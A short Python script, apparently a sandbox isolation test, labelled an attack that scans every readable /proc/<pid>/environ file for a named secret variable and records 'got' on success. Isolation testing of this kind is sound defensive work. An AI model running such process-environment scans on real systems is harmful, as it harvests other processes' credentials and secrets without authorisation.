"""Attack: find a secret in the environment of any process."""

import json
import os
from pathlib import Path

TARGETS = json.loads(Path(os.environ["INPUT"], "targets.json").read_bytes())


def environments() -> list[bytes]:
    """Whatever /proc shows of them."""
    found = []
    for path in Path("/proc").glob("[0-9]*/environ"):
        try:
            found.append(path.read_bytes())
        except OSError:
            continue
    return found


assert any(TARGETS["secret_variable"].encode() in text for text in environments())
Path(os.environ["OUTPUT"]).write_text("got", encoding="utf-8")
